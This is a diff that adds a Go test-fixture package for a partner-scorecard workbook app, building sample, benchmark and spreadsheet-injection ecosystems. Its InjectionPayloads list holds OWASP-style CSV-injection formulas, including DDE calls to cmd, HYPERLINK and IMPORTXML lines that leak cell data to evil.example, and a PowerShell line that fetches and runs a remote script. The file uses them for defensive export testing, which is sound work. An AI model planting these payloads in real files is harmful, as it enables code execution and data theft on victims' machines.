@@ -1,0 +1,145 @@
+// Package planbooktest builds the ecosystems the tests of the workbook and
+// its exports share, as net/http/httptest does for servers: one rich sample
+// that exercises every field the app keeps and the workbook holds, a large
+// generated one for benchmarks, and one whose every text is a
+// spreadsheet-injection payload. It is imported by tests only.
+package planbooktest
+
+import (
+	"fmt"
+	"math/rand/v2"
+	"time"
+
+	"partneratlas/core"
+)
+
+// Today is the date the fixtures are built on, so review dates, golden
+// files and workbooks do not move.
+var Today = time.Date(2026, 3, 15, 0, 0, 0, 0, time.UTC)
+
+// Ecosystem is a sample that exercises every field the app keeps and the
+// workbook holds: a fifth criterion on a 0–10 scale, thresholds and plays
+// that are not the defaults, ratings, a past review; partners with several
+// roles and none, an override with its reason, out-of-scale and missing
+// values, names in several scripts, text that looks like a formula or a
+// number in unmapped columns, sources with commas and semicolons in their
+// names, and 40 generated partners whose scores sit on half-cents, to
+// exercise rounding.
+func Ecosystem(today time.Time) *core.Ecosystem {
+	e := core.NewEcosystem("Acme 生态 — אקמה 🚀", today)
+	e.Review.MarkReviewed(time.Date(2025, 9, 1, 0, 0, 0, 0, time.UTC))
+	e.Scorecard.AddCriterion("Co-sell readiness", 7.5)
+	e.Scorecard.Criteria[4].Min, e.Scorecard.Criteria[4].Max = 0, 10
+	e.Scorecard.Criteria[4].Description = "Can their sellers work deals with ours?"
+	e.Thresholds = core.Thresholds{Tier1: 72.5, Tier2: 50, Tier3: 30}
+	e.Maturity.Rate(core.Prioritization, core.Emerging)
+	e.Maturity.Rate(core.Clarity, core.Strategic)
+	e.Plays = append(e.Plays[:7:7], core.Play{Role: core.Influencer, Tier: core.Tier2, Type: "Podcast swap",
+		Name: "Guest on each other's show", Owner: "=Marketing", Cadence: "Monthly", KPI: "+10% reach"})
+	add := func(name, site string, roles []core.Role, formal bool, vals []float64, extras ...string) *core.Partner {
+		p := &core.Partner{Name: name, Website: site, Domain: core.RegistrableDomain(site), Roles: roles, Formal: formal,
+			Owner: "Dana Ng", Region: "EMEA",
+			Sources: []core.Source{{File: "partners.xlsx", Sheet: "List, 2025", Row: len(e.Partners) + 2}, {File: "extra; list.csv", Row: 7}}}
+		for i, v := range vals {
+			if v >= 0 {
+				p.SetValue(e.Scorecard.Criteria[i].Key, v)
+			}
+		}
+		for i := 0; i+1 < len(extras); i += 2 {
+			p.Extras = append(p.Extras, core.Extra{Column: extras[i], Value: extras[i+1]})
+		}
+		e.Partners = append(e.Partners, p)
+		return p
+	}
+	T, C, S, M, I := core.Technology, core.Channel, core.Service, core.Marketplace, core.Influencer
+	add("Salesforce", "https://www.salesforce.com", []core.Role{T, M}, true, []float64{5, 5, 4, 5, 9}, "Notes", "=HYPERLINK(\"http://evil.example\",\"x\")", "Phone", "+1 555 0100")
+	add("AWS Marketplace", "https://aws.amazon.com", []core.Role{M}, true, []float64{4, 4, 3, 5, 8.5}, "Notes", "-3", "Account ID", "007")
+	add("株式会社テスト", "https://test.co.jp", []core.Role{C}, true, []float64{3, 4, 3, 3, 3.3}, "Notes", "日本のパートナー")
+	add("شريك عربي", "https://partner.example.sa", []core.Role{S, I, C}, false, []float64{2, 3, 2, 4, 6.7}, "Notes", "نص عربي")
+	add("Emoji Labs 🚀", "https://emoji.io", []core.Role{I, T}, false, []float64{4, 2, 5, 1, 0.1}, "Notes", "@SUM(1+1)", "Phone", "  padded  ")
+	add("Missing Values Inc", "https://missing.example.com", []core.Role{T}, true, []float64{5, -1, -1, 4, 2.25})
+	add("Out Of Scale", "https://oos.example.org", []core.Role{C}, true, []float64{7, 0, 5, 5, 12}, "Phone", "=1+1")
+	p := add("Overridden Co", "https://overridden.example", []core.Role{S, C}, true, []float64{1, 1, 1, 1, 0})
+	if err := p.SetOverride(core.Tier1, "Board-level strategic deal"); err != nil {
+		panic(err)
+	}
+	add("No Role Yet", "", nil, false, []float64{3, 3, 3, 3, 5}, "Account ID", "0042")
+	add("Quotes \"and\" <xml> & a\ttab", "https://quotes.example", []core.Role{I}, false, []float64{2.5, 3.5, 4.5, 1.5, 7.77})
+	rng := rand.New(rand.NewPCG(7, 11))
+	for i := 0; i < 40; i++ {
+		vals := make([]float64, 5)
+		for j := range vals {
+			vals[j] = float64(1 + rng.IntN(5))
+			if j == 4 {
+				vals[j] = float64(rng.IntN(1001)) / 100
+			}
+			if rng.IntN(12) == 0 {
+				vals[j] = -1
+			}
+		}
+		add(fmt.Sprintf("Generated %02d", i), fmt.Sprintf("https://gen%02d.example.com", i), []core.Role{core.Roles[i%5]}, i%3 != 0, vals)
+	}
+	return e
+}
+
+// Big has n generated partners, every criterion filled, for benchmarks.
+func Big(n int, today time.Time) *core.Ecosystem {
+	e := core.NewEcosystem("Big", today)
+	rng := rand.New(rand.NewPCG(1, 2))
+	for i := 0; i < n; i++ {
+		p := &core.Partner{Name: fmt.Sprintf("Partner %06d", i), Website: fmt.Sprintf("https://p%06d.example.com", i),
+			Domain: fmt.Sprintf("p%06d.example.com", i), Roles: []core.Role{core.Roles[i%5]}, Formal: i%2 == 0,
+			Owner: "Owner", Region: "NA", Sources: []core.Source{{File: "big.xlsx", Sheet: "Sheet1", Row: i + 2}},
+			Extras: []core.Extra{{Column: "Notes", Value: "note"}, {Column: "CRM ID", Value: fmt.Sprint(100000 + i)}}}
+		for _, c := range e.Scorecard.Criteria {
+			p.SetValue(c.Key, float64(1+rng.IntN(5)))
+		}
+		e.Partners = append(e.Partners, p)
+	}
+	return e
+}
+
+// InjectionPayloads are CSV-injection payloads from the OWASP CSV Injection
+// page and its references: formulas, DDE, and the characters that start
+// one.
+var InjectionPayloads = []string{
+	`=cmd|' /C calc'!A0`,
+	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
+	`@SUM(1+1)*cmd|' /C calc'!A0`,
+	`+1+1`,
+	`-2+3`,
+	`%0A-1+1`,
+	"\t=1",
+	"\r=1",
+	"\n=1",
+	` =1+1`,
+	`=DDE("cmd";"/C calc";"!A0")A0`,
+	`-2+3+cmd|' /C calc'!A0`,
+	`=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")`,
+	`@cmd|'/c notepad'!'A1'`,
+	`+cmd|'/c powershell IEX(wget evil.example/x.ps1)'!A0`,
+}
+
+// Injection puts each payload in every text a partner carries: name, owner,
+// region, override reason and an unmapped column; a negative number stays a
+// number.
+func Injection(today time.Time) *core.Ecosystem {
+	e := core.NewEcosystem("Injection", today)
+	for i, s := range InjectionPayloads {
+		p := &core.Partner{Name: s + " #" + string(rune('A'+i)), Owner: s, Region: s, Roles: []core.Role{core.Channel},
+			Extras: []core.Extra{{Column: "Notes", Value: s}, {Column: "Amount", Value: "-12.5"}}}
+		p.SetValue(core.SharedICP, 3)
+		e.Partners = append(e.Partners, p)
+	}
+	return e
+}
+
+// Columns maps each header of a header row to its column, for a test that
+// reads a sheet or a CSV back.
+func Columns(header []string) map[string]int {
+	col := map[string]int{}
+	for i, h := range header {
+		col[h] = i
+	}
+	return col
+}
